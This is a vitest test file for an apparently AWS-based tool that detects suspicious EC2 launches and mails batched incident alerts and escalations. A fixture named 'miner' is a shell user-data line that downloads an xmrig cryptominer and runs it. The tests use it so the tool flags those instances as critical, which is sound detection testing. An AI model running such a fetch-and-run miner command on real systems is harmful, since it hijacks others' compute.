import { describe, expect, it } from 'vitest';
import { startBatch } from '../../../lambda/batch/batch.ts';
import { createMemory } from '../../../lambda/batch/memory.ts';
import { joinIncident } from '../../../lambda/incidents/incidents.ts';
import { runInstances, stateChange } from '../../support/events.ts';
import { ACCOUNT, incidentLaunch } from '../../support/incidents.ts';
import { createWorld, instance, settings, start, type World } from '../../support/world.ts';

const minute = 60_000;
const hour = 60 * minute;
const miner = '#!/bin/sh\nwget https://example.com/xmrig && ./xmrig --donate-level 1';

/** The n-th instance, and the event that tells of its start. */
const id = (n: number): string => `i-${String(n).padStart(17, '0')}`;
const at = (n: number, region = 'us-east-1') => stateChange({ id: `event-${n}`, instanceId: id(n), region });

const minutesOf = (world: World): number[] => world.mails.map((mail) => Math.round((mail.time - start) / minute));
const kindsOf = (world: World): string[] => world.mails.map((mail) => mail.kind);

describe('an incident', () => {
  it('is mailed at once, and not again while nothing changes', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1) })] });
    await world.handle([at(1)]);
    await world.pass(24 * 60 * minute);
    expect(kindsOf(world)).toEqual(['first']);
  });

  it('gathers what follows into one mail at 5, 15 and 60 minutes, and then hourly', async () => {
    const instances = Array.from({ length: 10 }, (_, n) => instance({ instanceId: id(n), instanceType: 'p3.2xlarge' }));
    const world = createWorld({ instances });
    for (const [n, pause] of [1, 3, 3, 7, 30, 30, 30, 30].entries()) {
      await world.handle([at(n)]);
      await world.pass(pause * minute);
    }
    await world.pass(180 * minute);
    expect(minutesOf(world)).toEqual([0, 5, 15, 60, 120]);
    expect(world.mails.map((mail) => mail.instances)).toEqual([1, 3, 5, 6, 8]);
  });

  it('is mailed at once when it gets worse', async () => {
    const instances = [instance({ instanceId: id(1) }), instance({ instanceId: id(2), userData: miner })];
    const world = createWorld({ instances });
    await world.handle([at(1)]);
    await world.pass(minute);
    await world.handle([at(2)]);
    expect(world.mails.map((mail) => [mail.kind, mail.verdict])).toEqual([
      ['first', 'notice'],
      ['escalation', 'critical'],
    ]);
  });

  it('never sends more than five mails in its first hour: a second escalation drops the one at 15 minutes', async () => {
    const instances = [
      ...Array.from({ length: 60 }, (_, n) => instance({ instanceId: id(n) })),
      instance({ instanceId: id(100), instanceType: 'p3.2xlarge' }),
      instance({ instanceId: id(101), userData: miner }),
    ];
    const world = createWorld({ instances });
    await world.handle([at(0)]);
    for (let n = 1; n < 60; n++) {
      if (n === 2) await world.handle([at(100)]);
      if (n === 4) await world.handle([at(101)]);
      await world.handle([at(n)]);
      await world.pass(minute);
    }
    await world.pass(90 * minute);
    const inFirstHour = world.mails.filter((mail) => mail.time <= start + 60 * minute);
    expect(inFirstHour.map((mail) => mail.kind)).toEqual([
      'first',
      'escalation',
      'escalation',
      'follow-up',
      'follow-up',
    ]);
    expect(world.mails.at(-1)?.instances).toBe(62);
  });

  it('closes after an hour without an alert: the next one is a new incident with a first mail of its own', async () => {
    const world = createWorld({
      instances: [1, 2].map((n) => instance({ instanceId: id(n), instanceType: 'p3.2xlarge' })),
    });
    const [first] = await world.handle([at(1)]);
    await world.pass(61 * minute);
    const [second] = await world.handle([at(2)]);
    expect(kindsOf(world)).toEqual(['first', 'first']);
    expect(first?.decision).toMatchObject({ kind: 'alert' });
    expect(second?.decision).not.toEqual(first?.decision);
    expect(world.mails[1]?.instances).toBe(1);
  });

  it('is not kept open by duplicates and expected launches', async () => {
    const allow = [{ name: 'ci', tags: { Project: 'ci' }, reason: 'runners' }];
    const instances = [1, 2, 3].map((n) =>
      instance({ instanceId: id(n), tags: n === 2 ? { Project: 'ci' } : { a: 'b' } }),
    );
    const world = createWorld({ instances, settings: { allow } });
    await world.handle([at(1)]);
    await world.pass(23 * hour);
    const later = await world.handle([at(1), at(2)]);
    expect(later.map((outcome) => outcome.decision.kind)).toEqual(['duplicate', 'expected']);
    await world.pass(2 * hour);
    await world.handle([at(3)]);
    expect(kindsOf(world)).toEqual(['first', 'first']);
  });

  it('below alertAt is no mail; the first one comes when it gets worse, and counts what was held back', async () => {
    const instances = [instance({ instanceId: id(1) }), instance({ instanceId: id(2), instanceType: 'p3.2xlarge' })];
    const world = createWorld({ instances, settings: { alertAt: 'high' } });
    const [quiet] = await world.handle([at(1)]);
    expect(quiet?.decision).toMatchObject({ kind: 'alert', verdict: 'notice' });
    expect(world.mails).toEqual([]);
    await world.handle([at(2)]);
    expect(kindsOf(world)).toEqual(['first']);
    expect(world.mails[0]?.instances).toBe(2);
  });

  it('says who did it in the follow-up, from the event history, without a trail', async () => {
    const world = createWorld({
      instances: [instance({ instanceId: id(1), userData: miner })],
      launcher: {
        kind: 'user',
        key: 'arn:aws:iam::123456789012:user/eve',
        name: 'eve',
        accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
        isHuman: true,
      },
    });
    await world.handle([at(1)]);
    await world.pass(5 * minute);
    expect(kindsOf(world)).toEqual(['first', 'follow-up']);
    expect(world.mails[1]?.body).toContain('aws iam update-access-key --user-name eve');
  });

  it('learns who did it from the CloudTrail call that comes after the state change', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1), userData: miner })] });
    await world.handle([at(1)]);
    const [call] = await world.handle([runInstances({ instanceIds: [id(1)] })]);
    expect(call?.decision).toMatchObject({ kind: 'duplicate', of: 'event-1' });
    await world.pass(5 * minute);
    expect(world.mails.map((mail) => mail.kind)).toEqual(['first', 'follow-up']);
    expect(world.mails[1]?.body).toContain('ci-deploy');
  });

  it('of a notice is not mailed again only because somebody is known now: that counts from high up', async () => {
    const world = createWorld({ instances: [instance({ instanceId: id(1) })] });
    await world.handle([at(1)]);
    await world.handle([runInstances({ instanceIds: [id(1)], instanceType: 't3.micro' })]);
    await world.pass(180 * minute);
    expect(kindsOf(world)).toEqual(['first']);
  });

  it('gets its missing facts from a later event about the same instance', async () => {
    let visible = false;
    const known = createWorld({ instances: [instance({ instanceId: id(1), instanceType: 'm5.large' })] }).ports
      .inventory;
    const world = createWorld({
      broken: {
        inventory: {
          ...known,
          instances: (place, ids) => (visible ? known.instances(place, ids) : Promise.resolve([])),
        },
      },
    });
    await world.handle([at(1)]);
    expect(world.mails[0]?.body).not.toContain('m5.large');
    visible = true;
    const [later] = await world.handle([stateChange({ instanceId: id(1), state: 'running' })]);
    expect(later?.decision.kind).toBe('duplicate');
    await world.handle([at(2)]);
    await world.pass(60 * minute);
    expect(world.mails.at(-1)?.body).toContain('m5.large');
  });
});

/** The most mails within any hour. */
const mostInAnHour = (world: World): number =>
  Math.max(...world.mails.map(({ time }) => world.mails.filter((m) => m.time >= time && m.time - time <= hour).length));

const places = ['us-east-1', 'eu-west-1', 'sa-east-1'];

describe('a grave incident that gets worse', () => {
  it('by sixty GPU hosts behind a decoy is mailed at once, and the subject names them', async () => {
    const decoys = [...places, 'us-east-1', 'us-east-1'].map((region, n) =>
      instance({ instanceId: id(n), region, instanceType: 't3.nano' }),
    );
    const hosts = Array.from({ length: 60 }, (_, n) =>
      instance({ instanceId: id(100 + n), instanceType: 'p4d.24xlarge' }),
    );
    const world = createWorld({ instances: [...decoys, ...hosts] });
    await world.handle(places.map((region, n) => at(n, region)));
    expect(world.mails.map(({ verdict }) => verdict)).toEqual(['critical']);
    for (const n of [3, 4]) {
      await world.pass(50 * minute);
      await world.handle([at(n)]);
    }
    await world.pass(22 * minute);
    const before = world.mails.length;
    await world.handle(hosts.map((_, n) => at(100 + n)));
    expect(world.mails.length).toBe(before + 1);
    const mail = world.mails.at(-1);
    expect(mail).toMatchObject({ kind: 'escalation', verdict: 'critical', instances: 65 });
    expect(mail?.subject).toMatch(/^\[CRITICAL\] now 60 x p4d\.24xlarge \+ 5 more in 3 Regions/);
    expect(mail?.body).toContain('New since the last mail: 60 x p4d.24xlarge');
  });

  it('by the same events received twice is no worse: what joins twice counts once', async () => {
    const instances = [1, 2, 3].map((n) => instance({ instanceId: id(n), instanceType: 'p3.2xlarge' }));
    const world = createWorld({ instances });
    await world.handle([at(1)]);
    const launch = incidentLaunch({ instanceId: id(1), id: `${ACCOUNT}/us-east-1/${id(1)}`, verdict: 'high' });
    const memory = () => createMemory(startBatch(world.ports, settings()));
    for (let n = 0; n < 20; n++) await joinIncident(memory(), ACCOUNT, [{ launch, signals: [] }]);
    await world.handle([at(2)]);
    expect(kindsOf(world)).toEqual(['first']);
  });

  it('again and again is five mails in any hour at most, and the last names everything', async () => {
    const sizes = [1, 11, 121];
    const instances = sizes.flatMap((size, step) =>
      Array.from({ length: size }, (_, n) =>
        instance({ instanceId: id(10_000 * step + n), region: places[step % 3] ?? '', userData: miner }),
      ),
    );
    const world = createWorld({ instances });
    for (const [step, size] of sizes.entries()) {
      for (let n = 0; n < size; n += 100) {
        const some = Math.min(100, size - n);
        await world.handle(Array.from({ length: some }, (_, k) => at(10_000 * step + n + k, places[step % 3])));
      }
      await world.pass(minute);
    }
    await world.pass(3 * hour);
    expect(mostInAnHour(world)).toBeLessThanOrEqual(5);
    expect(kindsOf(world).filter((kind) => kind === 'escalation').length).toBeGreaterThan(1);
    expect(world.mails.at(-1)?.instances).toBe(133);
  });

  it('by a further account of the organization is mailed at once', async () => {
    const organization = { id: 'o-ab12cdef34', externalId: 'x', readOnlyRoleName: 'davylamp-reader' };
    const member = (n: number): string => String(n).repeat(12);
    const instances = Array.from({ length: 8 }, (_, n) => ({
      ...instance({ instanceId: id(n), userData: miner }),
      account: member(n),
    }));
    const world = createWorld({ instances, settings: { organization, accountNames: {} } });
    // Five accounts have incidents of their own; those behind them share the organization's.
    for (let n = 0; n < 8; n++) {
      await world.handle([stateChange({ id: `event-${n}`, instanceId: id(n), account: member(n) })]);
    }
    expect(world.mails.map(({ kind, accounts }) => [kind, accounts.length])).toEqual([
      ...Array(5).fill(['first', 1]),
      ['first', 1],
      ['escalation', 2],
      ['escalation', 3],
    ]);
    expect(world.mails.at(-1)?.body).toContain(member(7));
  });
});

describe('notices', () => {
  it('name what is new at the next full hour, and more of the same once, at the end of their day', async () => {
    const instances = Array.from({ length: 10 }, (_, n) =>
      instance({ instanceId: id(n), instanceType: n === 5 ? 'm5.large' : 't3.micro' }),
    );
    const world = createWorld({ instances });
    for (const n of [0, 1, 2, 3, 4]) {
      await world.handle([at(n)]);
      await world.pass(50 * minute);
    }
    await world.handle([at(5)]);
    await world.pass(2 * hour);
    await world.handle([at(6)]);
    await world.pass(24 * hour);
    expect(minutesOf(world)).toEqual([0, 300, 24 * 60]);
    expect(world.mails.map(({ kind, instances: count }) => [kind, count])).toEqual([
      ['first', 1],
      ['follow-up', 6],
      ['follow-up', 7],
    ]);
  });

  it("of a cluster's ordinary nodes are about five mails a day at most", async () => {
    const types = ['m5.large', 'c5.large', 'r5.large'];
    const nodes = Array.from({ length: 96 }, (_, n) =>
      instance({
        instanceId: id(n),
        instanceType: types[Math.floor(n / 7) % 3] ?? '',
        tags: { 'aws:autoscaling:groupName': 'nodes' },
        launchTime: start + n * 15 * minute,
      }),
    );
    const world = createWorld({ instances: nodes });
    for (let n = 0; n < 96; n++) {
      const time = new Date(start + n * 15 * minute).toISOString();
      await world.handle([stateChange({ id: `event-${n}`, instanceId: id(n), time })]);
      await world.pass(15 * minute);
    }
    expect(world.mails.every(({ verdict }) => verdict === 'notice')).toBe(true);
    expect(world.mails.length).toBeLessThanOrEqual(5);
    await world.pass(25 * hour);
    expect(world.mails.at(-1)?.instances).toBe(96);
  });

  it('are mailed at once when one turns grave, also hours later', async () => {
    const instances = [instance({ instanceId: id(1) }), instance({ instanceId: id(2), userData: miner })];
    const world = createWorld({ instances });
    await world.handle([at(1)]);
    await world.pass(20 * hour);
    await world.handle([at(2)]);
    expect(kindsOf(world)).toEqual(['first', 'escalation']);
  });
});
